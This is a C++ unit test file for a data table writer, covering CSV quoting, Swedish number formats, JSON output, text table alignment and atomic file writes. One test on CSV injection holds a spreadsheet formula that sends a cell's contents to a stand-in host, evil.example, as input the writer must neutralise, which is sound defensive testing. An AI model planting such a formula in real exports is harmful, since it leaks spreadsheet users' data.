#include "io/table_writer.hpp"

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <sstream>
#include <thread>

#include <sys/stat.h>

#include "core/error.hpp"
#include "core/i18n.hpp"

namespace jamlik {
namespace {

Table SmallTable() {
  Validity validity = Validity::AllValid(2);
  validity.Clear(1);
  return Table({Column::CategoricalFromStrings("utbildning", {"förgymnasial", "eftergymnasial"}),
                Column::Int64("n", {12, 3}),
                Column::Double("inkomst", {231.5, 0.0}, std::move(validity)),
                Column::String("kommentar", {"säger \"hej\", då", "två\nrader"})});
}

TEST(WriteCsvTest, QuotesFieldsThatNeedItAndLeavesNullsEmpty) {
  std::ostringstream out;
  WriteCsv(SmallTable(), out);
  EXPECT_EQ(out.str(),
            "utbildning,n,inkomst,kommentar\n"
            "förgymnasial,12,231.5,\"säger \"\"hej\"\", då\"\n"
            "eftergymnasial,3,,\"två\nrader\"\n");
}

TEST(WriteCsvTest, SwedishConventionsUseSemicolonAndDecimalComma) {
  std::ostringstream out;
  WriteCsv(SmallTable(), out, {';', true});
  EXPECT_EQ(out.str(),
            "utbildning;n;inkomst;kommentar\n"
            "förgymnasial;12;231,5;\"säger \"\"hej\"\", då\"\n"
            "eftergymnasial;3;;\"två\nrader\"\n");
  EXPECT_THROW(WriteCsv(SmallTable(), out, {',', true}), Error);
}

// OWASP's CSV injection: text that a spreadsheet would run as a formula gets an apostrophe in
// front, in cells and column names; numbers, negative ones too, stay as they are.
TEST(WriteCsvTest, TextThatASpreadsheetWouldRunAsAFormulaIsNeutralised) {
  const Table table({Column::CategoricalFromStrings(
                         "grupp", {"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"klicka\")",
                                   "+1+1", "@SUM(A1)", "-2+3", "\t=1", "-3,5", "vanlig"}),
                     Column::Double("=skattning", {-2.5, 1, 2, 3, 4, 5, 6}),
                     Column::Int64("n", {-7, 1, 2, 3, 4, 5, 6})});
  std::ostringstream out;
  WriteCsv(table, out, {';', true});
  EXPECT_EQ(out.str(),
            "grupp;'=skattning;n\n"
            "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"klicka\"\")\";-2,5;-7\n"
            "'+1+1;1;1\n'@SUM(A1);2;2\n'-2+3;3;3\n'\t=1;4;4\n-3,5;5;5\nvanlig;6;6\n");
}

TEST(WriteJsonTest, WritesAnArrayOfRowObjectsKeyedByColumnName) {
  std::ostringstream out;
  WriteJson(Table({Column::CategoricalFromStrings("kon", {"K"}), Column::Int64("n", {5}),
                   Column::Double("dod", {1.5})}),
            out);
  EXPECT_EQ(out.str(), "[\n  {\n    \"kon\": \"K\",\n    \"n\": 5,\n    \"dod\": 1.5\n  }\n]\n");
}

TEST(WriteJsonTest, NullsAreJsonNull) {
  std::ostringstream out;
  WriteJson(SmallTable(), out);
  EXPECT_NE(out.str().find("\"inkomst\": null"), std::string::npos);
}

TEST(WriteTextTableTest, AlignsColumnsByCharactersNotBytes) {
  ScopedLanguage english(Language::kEnglish);
  std::ostringstream out;
  WriteTextTable(Table({Column::CategoricalFromStrings("kommun", {"Örebro", "Ljusnarsberg"}),
                        Column::Double("andel", {0.126, 10})}),
                 out);
  EXPECT_EQ(out.str(),
            "kommun        andel\n"
            "────────────  ─────\n"
            "Örebro         0.13\n"
            "Ljusnarsberg     10\n");
}

TEST(WriteTextTableTest, SwedishNumbersHaveADecimalCommaAndGroupedThousands) {
  ScopedLanguage swedish(Language::kSwedish);
  std::ostringstream out;
  WriteTextTable(Table({Column::Double("värde", {0.126, 123456.5})}), out);
  EXPECT_EQ(out.str(),
            "    värde\n"
            "─────────\n"
            "     0,13\n"
            "123\u00a0456,5\n");
}

TEST(WriteFileAtomicallyTest, LeavesNoFileBehindWhenWritingFails) {
  const auto path = std::filesystem::temp_directory_path() / "jamlik_atomic_test.csv";
  std::filesystem::remove(path);
  EXPECT_THROW(WriteFileAtomically(path.string(),
                                   [](std::ostream& out) {
                                     out << "half a file";
                                     throw Error(ErrorCode::kBadValue, "bad input");
                                   }),
               Error);
  EXPECT_FALSE(std::filesystem::exists(path));
  WriteFileAtomically(path.string(), [](std::ostream& out) { out << "whole file\n"; });
  std::ifstream in(path);
  std::string line;
  std::getline(in, line);
  EXPECT_EQ(line, "whole file");
  std::filesystem::remove(path);
}

TEST(WriteFileAtomicallyTest, WritesThroughASymbolicLinkAndKeepsTheLink) {
  namespace fs = std::filesystem;
  const fs::path directory = fs::temp_directory_path() / "jamlik_atomic_link_test";
  fs::remove_all(directory);
  fs::create_directories(directory);
  fs::create_symlink(directory / "real.csv", directory / "link.csv");
  WriteFileAtomically((directory / "link.csv").string(), [](std::ostream& out) { out << "x\n"; });
  EXPECT_TRUE(fs::is_symlink(directory / "link.csv"));
  EXPECT_EQ(fs::file_size(directory / "real.csv"), 2U);
  fs::remove_all(directory);
}

TEST(WriteFileAtomicallyTest, WritesIntoAPipeInPlace) {
  namespace fs = std::filesystem;
  const fs::path fifo = fs::temp_directory_path() / "jamlik_atomic_fifo_test";
  fs::remove(fifo);
  ASSERT_EQ(mkfifo(fifo.c_str(), 0600), 0);
  std::string received;
  std::thread reader([&] {
    std::ifstream in(fifo);
    std::getline(in, received);
  });
  WriteFileAtomically(fifo.string(), [](std::ostream& out) { out << "through the pipe\n"; });
  reader.join();
  EXPECT_EQ(received, "through the pipe");
  EXPECT_FALSE(fs::is_regular_file(fifo));
  fs::remove(fifo);
}

}  // namespace
}  // namespace jamlik
